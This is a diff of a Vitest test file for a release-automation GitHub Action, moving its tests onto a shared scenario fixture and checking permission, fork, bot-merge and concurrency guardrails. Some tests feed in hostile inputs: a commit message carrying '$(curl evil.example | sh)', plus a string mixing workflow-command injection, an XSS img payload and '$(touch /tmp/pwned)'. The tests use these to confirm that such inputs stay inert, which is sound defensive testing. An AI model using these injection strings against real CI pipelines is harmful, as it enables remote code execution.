@@ -1,6 +1,7 @@
-import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { describe } from 'vitest'
+import { scenarioTest } from '../../test-support/fixtures.js'
 import { GitFixture } from '../../test-support/git-fixture.js'
-import { Scenario } from '../../test-support/scenario.js'
+import type { Scenario } from '../../test-support/scenario.js'
 
 const PACKAGE_JSON = '{\n    "name": "app",\n    "version": "1.0.0",\n    "private": true\n}\n'
 const PACKAGE_LOCK =
@@ -16,85 +17,77 @@ interface PullOptions {
   message?: string
 }
 
-describe('release label, manual dispatch and guardrails', () => {
-  let s: Scenario
-
-  beforeEach(async () => {
-    s = await new Scenario().start()
+const it = scenarioTest({
+  setup: s => {
     s.repo.commit('chore: init', { 'package.json': PACKAGE_JSON, 'package-lock.json': PACKAGE_LOCK })
     s.repo.tag('v1.0.0')
     s.state.roles.set('maintainer-mia', 'maintain')
     s.state.roles.set('triager-tom', 'triage')
-  })
-
-  afterEach(async () => {
-    expect(s.emulator.violations).toEqual([])
-    // A fault a test injected but no request met means the test did not exercise what it claims.
-    expect(s.emulator.faults).toEqual([])
-    await s.stop()
-  })
-
-  /** A pull request with one commit, merged with a merge commit (unless merged: false), known to the emulator. */
-  function pullRequest(options: PullOptions = {}) {
-    const number = options.number ?? 12
-    const branch = `feature-${number}`
-    s.repo.checkout(branch, true)
-    const headSha = s.repo.commit(options.message ?? 'feat(cart): share carts (#12)')
-    s.repo.checkout('main')
-    const merged = options.merged ?? true
-    const mergeSha = merged
-      ? s.repo.merge(branch, `Merge pull request #${number} from ${options.headRepo ?? 'acme/app'}/${branch}`)
-      : null
-    const record = {
-      number,
-      title: options.title ?? 'Share carts',
-      state: merged ? ('closed' as const) : ('open' as const),
-      merged,
-      mergeCommitSha: mergeSha,
-      baseRef: 'main',
-      headRef: branch,
-      headSha,
-      headRepo: options.headRepo ?? 'acme/app',
-      labels: options.labels ?? ['release'],
-      user: 'contributor-cai',
-      mergedBy: merged ? (options.mergedBy ?? 'maintainer-mia') : null
-    }
-    s.state.pulls.push(record)
-    return record
   }
+})
 
-  function pullEvent(
-    pull: ReturnType<typeof pullRequest>,
-    action: 'closed' | 'labeled' | 'opened',
-    sender: string,
-    label?: string
-  ) {
-    return {
-      eventName: 'pull_request_target',
-      ref: 'refs/heads/main',
-      sha: pull.mergeCommitSha ?? pull.headSha,
-      event: {
-        action,
+/** A pull request with one commit, merged with a merge commit (unless merged: false), known to the emulator. */
+function pullRequest(s: Scenario, options: PullOptions = {}) {
+  const number = options.number ?? 12
+  const branch = `feature-${number}`
+  s.repo.checkout(branch, true)
+  const headSha = s.repo.commit(options.message ?? 'feat(cart): share carts (#12)')
+  s.repo.checkout('main')
+  const merged = options.merged ?? true
+  const mergeSha = merged
+    ? s.repo.merge(branch, `Merge pull request #${number} from ${options.headRepo ?? 'acme/app'}/${branch}`)
+    : null
+  const record = {
+    number,
+    title: options.title ?? 'Share carts',
+    state: merged ? ('closed' as const) : ('open' as const),
+    merged,
+    mergeCommitSha: mergeSha,
+    baseRef: 'main',
+    headRef: branch,
+    headSha,
+    headRepo: options.headRepo ?? 'acme/app',
+    labels: options.labels ?? ['release'],
+    user: 'contributor-cai',
+    mergedBy: merged ? (options.mergedBy ?? 'maintainer-mia') : null
+  }
+  s.state.pulls.push(record)
+  return record
+}
+
+function pullEvent(
+  pull: ReturnType<typeof pullRequest>,
+  action: 'closed' | 'labeled' | 'opened',
+  sender: string,
+  label?: string
+) {
+  return {
+    eventName: 'pull_request_target',
+    ref: 'refs/heads/main',
+    sha: pull.mergeCommitSha ?? pull.headSha,
+    event: {
+      action,
+      number: pull.number,
+      sender: { login: sender },
+      ...(label ? { label: { name: label } } : {}),
+      pull_request: {
         number: pull.number,
-        sender: { login: sender },
-        ...(label ? { label: { name: label } } : {}),
-        pull_request: {
-          number: pull.number,
-          title: pull.title,
-          merged: pull.merged,
-          merge_commit_sha: pull.mergeCommitSha,
-          merged_by: pull.mergedBy ? { login: pull.mergedBy } : null,
-          labels: pull.labels.map(name => ({ name })),
-          base: { ref: 'main', repo: { full_name: 'acme/app' } },
-          head: { ref: pull.headRef, sha: pull.headSha, repo: { full_name: pull.headRepo } }
-        }
+        title: pull.title,
+        merged: pull.merged,
+        merge_commit_sha: pull.mergeCommitSha,
+        merged_by: pull.mergedBy ? { login: pull.mergedBy } : null,
+        labels: pull.labels.map(name => ({ name })),
+        base: { ref: 'main', repo: { full_name: 'acme/app' } },
+        head: { ref: pull.headRef, sha: pull.headSha, repo: { full_name: pull.headRepo } }
       }
     }
   }
+}
 
+describe.concurrent('release label, manual dispatch and guardrails', () => {
   describe('release label', () => {
-    it('a merged pull request with the label is released at its merge commit', async () => {
-      const pull = pullRequest()
+    it('a merged pull request with the label is released at its merge commit', async ({ s, expect }) => {
+      const pull = pullRequest(s)
       const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
       expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0', sha: pull.mergeCommitSha })
       expect(s.repo.head('v1.1.0')).toBe(pull.mergeCommitSha)
@@ -102,8 +95,8 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(run.summary).toContain('Pull request #12 “Share carts”, released on the word of maintainer-mia')
     })
 
-    it('an unmerged pull request with the label is skipped', async () => {
-      const pull = pullRequest({ merged: false })
+    it('an unmerged pull request with the label is skipped', async ({ s, expect }) => {
+      const pull = pullRequest(s, { merged: false })
       const run = await s.run(pullEvent(pull, 'labeled', 'maintainer-mia', 'release'))
       expect(run.exitCode).toBe(0)
       expect(run.outputs.outcome).toBe('skipped')
@@ -113,13 +106,13 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(s.emulator.writes()).toEqual([])
     })
 
-    it('the label added after the merge releases', async () => {
-      const pull = pullRequest({ labels: ['release'] })
+    it('the label added after the merge releases', async ({ s, expect }) => {
+      const pull = pullRequest(s, { labels: ['release'] })
       const run = await s.run(pullEvent(pull, 'labeled', 'maintainer-mia', 'release'))
       expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0', sha: pull.mergeCommitSha })
     })
 
-    it.each([
+    it.for([
       [
         'another label added',
         'labeled',
@@ -141,16 +134,19 @@ describe('release label, manual dispatch and guardrails', () => {
         ['release'],
         'pull request #12 was opened: only closed (merged) and labeled events can release'
       ]
-    ] as const)('%s is skipped', async (_name, action, label, labels, reason) => {
-      const pull = pullRequest({ labels: [...labels] })
+    ] as const)('%s is skipped', async ([_name, action, label, labels, reason], { s, expect }) => {
+      const pull = pullRequest(s, { labels: [...labels] })
       const run = await s.run(pullEvent(pull, action, 'maintainer-mia', label))
       expect(run.outputs.outcome).toBe('skipped')
       expect(run.outputs['skipped-reason']).toBe(reason)
       expect(s.emulator.writes()).toEqual([])
     })
 
-    it('a labeler with only triage access is skipped, naming the user and the permission', async () => {
-      const pull = pullRequest()
+    it('a labeler with only triage access is skipped, naming the user and the permission', async ({
+      s,
+      expect
+    }) => {
+      const pull = pullRequest(s)
       const run = await s.run(pullEvent(pull, 'labeled', 'triager-tom', 'release'))
       expect(run.outputs.outcome).toBe('skipped')
       expect(run.outputs['skipped-reason']).toBe(
@@ -159,8 +155,8 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(s.emulator.writes()).toEqual([])
     })
 
-    it('a pull request merged by an app or bot (not a collaborator) is skipped', async () => {
-      const pull = pullRequest({ mergedBy: 'merge-queue[bot]' })
+    it('a pull request merged by an app or bot (not a collaborator) is skipped', async ({ s, expect }) => {
+      const pull = pullRequest(s, { mergedBy: 'merge-queue[bot]' })
       const run = await s.run(pullEvent(pull, 'closed', 'merge-queue[bot]'))
       expect(run.outputs.outcome).toBe('skipped')
       expect(run.outputs['skipped-reason']).toBe(
@@ -168,8 +164,11 @@ describe('release label, manual dispatch and guardrails', () => {
       )
     })
 
-    it('a pull request from a fork is released from the merge commit; nothing of the fork is read or run', async () => {
-      const pull = pullRequest({
+    it('a pull request from a fork is released from the merge commit; nothing of the fork is read or run', async ({
+      s,
+      expect
+    }) => {
+      const pull = pullRequest(s, {
         headRepo: 'mallory/app',
         message: 'feat: innocent $(curl evil.example | sh)'
       })
@@ -179,15 +178,15 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(touched.filter(path => path.includes(pull.headSha) || path.includes('mallory'))).toEqual([])
     })
 
-    it('a bump label overrides the automatic bump', async () => {
-      const pull = pullRequest({ labels: ['release', 'release:major'] })
+    it('a bump label overrides the automatic bump', async ({ s, expect }) => {
+      const pull = pullRequest(s, { labels: ['release', 'release:major'] })
       const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
       expect(run.outputs).toMatchObject({ outcome: 'released', version: '2.0.0' })
       expect(run.result.versionReason).toBe('the release:major label on #12')
     })
 
-    it('the bump label prefix can be changed', async () => {
-      const pull = pullRequest({ labels: ['release', 'semver:minor', 'release:major'] })
+    it('the bump label prefix can be changed', async ({ s, expect }) => {
+      const pull = pullRequest(s, { labels: ['release', 'semver:minor', 'release:major'] })
       const run = await s.run({
         ...pullEvent(pull, 'closed', 'maintainer-mia'),
         inputs: { 'bump-label-prefix': 'semver:' }
@@ -196,8 +195,8 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(run.result.versionReason).toBe('the semver:minor label on #12')
     })
 
-    it('a token without pull-requests: read is told so', async () => {
-      const pull = pullRequest()
+    it('a token without pull-requests: read is told so', async ({ s, expect }) => {
+      const pull = pullRequest(s)
       s.emulator.inject({
         operationId: 'pulls/get',
         status: 403,
@@ -210,8 +209,8 @@ describe('release label, manual dispatch and guardrails', () => {
       )
     })
 
-    it('conflicting bump labels block with a clear message', async () => {
-      const pull = pullRequest({ labels: ['release', 'release:major', 'release:patch'] })
+    it('conflicting bump labels block with a clear message', async ({ s, expect }) => {
+      const pull = pullRequest(s, { labels: ['release', 'release:major', 'release:patch'] })
       const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
       expect(run.exitCode).toBe(1)
       expect(run.outputs.outcome).toBe('blocked')
@@ -223,7 +222,7 @@ describe('release label, manual dispatch and guardrails', () => {
   })
 
   describe('manual dispatch', () => {
-    it('bump: major from the dispatch form releases a major version', async () => {
+    it('bump: major from the dispatch form releases a major version', async ({ s, expect }) => {
       s.repo.commit('fix: small')
       const run = await s.run({
         eventName: 'workflow_dispatch',
@@ -233,7 +232,7 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(run.outputs).toMatchObject({ outcome: 'released', version: '2.0.0' })
     })
 
-    it('an explicit version from a person still passes every gate', async () => {
+    it('an explicit version from a person still passes every gate', async ({ s, expect }) => {
       const sha = s.repo.commit('fix: small')
       s.state.addCheckRun(sha, { name: 'test', conclusion: 'failure' })
       const run = await s.run({ eventName: 'workflow_dispatch', inputs: { bump: '3.0.0' } })
@@ -246,7 +245,10 @@ describe('release label, manual dispatch and guardrails', () => {
   describe('version files', () => {
     const COMMIT = { 'commit-version': 'true', 'changelog-file': 'CHANGELOG.md' }
 
-    it('package.json, package-lock.json and CHANGELOG.md change in one API commit, and the tag points at it', async () => {
+    it('package.json, package-lock.json and CHANGELOG.md change in one API commit, and the tag points at it', async ({
+      s,
+      expect
+    }) => {
       s.repo.commit('chore: changelog', { 'CHANGELOG.md': '# Changelog\n\n## 1.0.0\n\n- first\n' })
       const released = s.repo.commit('feat: wishlists')
       const run = await s.run({ inputs: COMMIT })
@@ -288,7 +290,7 @@ describe('release label, manual dispatch and guardrails', () => {
       })
     })
 
-    it('a rerun after a version-commit release releases nothing again', async () => {
+    it('a rerun after a version-commit release releases nothing again', async ({ s, expect }) => {
       s.repo.commit('feat: wishlists')
       const first = await s.run({ inputs: COMMIT })
       const second = await s.run({ inputs: COMMIT })
@@ -300,7 +302,7 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(s.tags()).toEqual(['v1.0.0', 'v1.1.0'])
     })
 
-    it('the branch moving during the run is retried on the new head', async () => {
+    it('the branch moving during the run is retried on the new head', async ({ s, expect }) => {
       const released = s.repo.commit('feat: wishlists')
       let pushed = ''
       s.emulator.inject({
@@ -325,7 +327,7 @@ describe('release label, manual dispatch and guardrails', () => {
       )
     })
 
-    it('two runs at once make one version commit, one tag and one release', async () => {
+    it('two runs at once make one version commit, one tag and one release', async ({ s, expect }) => {
       const released = s.repo.commit('feat: wishlists')
       const runs = await Promise.all([s.run({ inputs: COMMIT }), s.run({ inputs: COMMIT })])
       expect(runs.map(run => run.exitCode)).toEqual([0, 0])
@@ -335,7 +337,10 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(s.state.releases).toHaveLength(1)
     })
 
-    it('a protected branch blocks with the options explained, and nothing is tagged', async () => {
+    it('a protected branch blocks with the options explained, and nothing is tagged', async ({
+      s,
+      expect
+    }) => {
       s.repo.commit('feat: wishlists')
       s.state.protectedBranches.add('main')
       const run = await s.run({ inputs: COMMIT })
@@ -348,7 +353,7 @@ describe('release label, manual dispatch and guardrails', () => {
       expect(s.state.releases).toEqual([])
     })
 
-    it('a VERSION file keeps its style', async () => {
+    it('a VERSION file keeps its style', async ({ s, expect }) => {
       s.repo.commit('chore: version file', { VERSION: 'v1.0.0\n' })
       s.repo.commit('fix: x')
       const run = await s.run({ inputs: { 'commit-version': 'true', 'version-file': 'VERSION' } })
@@ -357,10 +362,13 @@ describe('release label, manual dispatch and guardrails', () => {
     })
   })
 
-  it('hostile commit messages, pull request titles and labels stay inert everywhere', async () => {
+  it('hostile commit messages, pull request titles and labels stay inert everywhere', async ({
+    s,
+    expect
+  }) => {
     const hostile =
       '::set-output name=released::true <img src=x onerror=alert(1)> $(touch /tmp/pwned) ::add-mask::x ::stop-commands::stop'
-    const pull = pullRequest({
+    const pull = pullRequest(s, {
       title: hostile,
       message: `feat: ${hostile}`,
       labels: ['release', 'release:<img src=y>']
@@ -380,7 +388,7 @@ describe('release label, manual dispatch and guardrails', () => {
     expect(JSON.parse(run.outputs.result!).pullRequest.title).toBe(hostile)
   })
 
-  it('fleet: one control repository releases two products', async () => {
+  it('fleet: one control repository releases two products', async ({ s, expect }) => {
     const products = ['acme/shop', 'acme/billing'].map(name => {
       const repo = new GitFixture()
       repo.commit('chore: init')
